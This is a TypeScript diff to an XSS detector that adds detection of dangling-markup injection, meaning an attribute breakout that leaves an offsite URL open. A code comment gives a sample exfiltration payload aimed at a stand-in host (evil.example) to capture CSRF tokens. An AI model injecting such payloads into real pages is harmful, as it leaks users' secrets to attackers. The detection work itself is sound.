@@ -62,7 +62,7 @@ export function judgeTag(r: TagReader, s: string, lt: number): XssMatch | undefi
   const role = roleName === undefined ? undefined : roleOf(roleName);
   while (r.nextAttribute()) {
     facts.count++;
-    const m = judgeAttribute(r);
+    const m = judgeAttribute(r) ?? judgeDanglingUrl(r, s, lt);
     if (m !== undefined) return m;
     noteFacts(r);
   }
@@ -242,6 +242,35 @@ function noteFacts(r: TagReader): void {
     const rel = decodeRange(s, r.valueStart, r.valueEnd, 64).toLowerCase();
     facts.relLoads = rel.includes('import') || rel.includes('stylesheet');
   }
+}
+
+const LOADING_ATTRIBUTES = ['src', 'href', 'action', 'formaction', 'background', 'poster', 'data', 'srcset', 'ping'];
+
+/**
+ * Dangling markup: `"><img src='//evil.example/log?` breaks out of an attribute and opens a URL
+ * that is never closed, so the browser sends the page up to the next matching quote (a CSRF
+ * token, say) to the attacker's host. Needs the breakout right before the tag and a URL to
+ * another origin; an editor never leaves a loading attribute open.
+ */
+function judgeDanglingUrl(r: TagReader, s: string, lt: number): XssMatch | undefined {
+  if (!r.unclosed || !ctx.realElement || !breaksOutBefore(s, lt)) return undefined;
+  let loads = false;
+  for (const name of LOADING_ATTRIBUTES) if (r.attrEnd - r.attrStart === name.length && equalsLowerAt(s, r.attrStart, name)) loads = true;
+  if (!loads) return undefined;
+  let v = r.valueStart;
+  while (v < r.valueEnd && isHtmlSpace(s.charCodeAt(v))) v++;
+  const offsite = s.startsWith('//', v) || s.startsWith('\\\\', v) || /^https?:/i.test(s.slice(v, v + 6));
+  if (!offsite) return undefined;
+  return makeMatch(s, lt, r.valueEnd, 'dangling-markup', 0.7, 'breaks out of an attribute and leaves a URL open to capture the page');
+}
+
+/** Whether `">` or `'>` (spaces allowed) stands right before `lt`. */
+function breaksOutBefore(s: string, lt: number): boolean {
+  let k = lt - 1;
+  while (k >= 0 && isHtmlSpace(s.charCodeAt(k))) k--;
+  if (s.charCodeAt(k) !== 62 /* > */) return false;
+  const q = s.charCodeAt(k - 1);
+  return q === 34 || q === 39;
 }
 
 /** `<javascript:alert(1)>`: a markdown autolink, or a tag whose "name" is a script URL. */
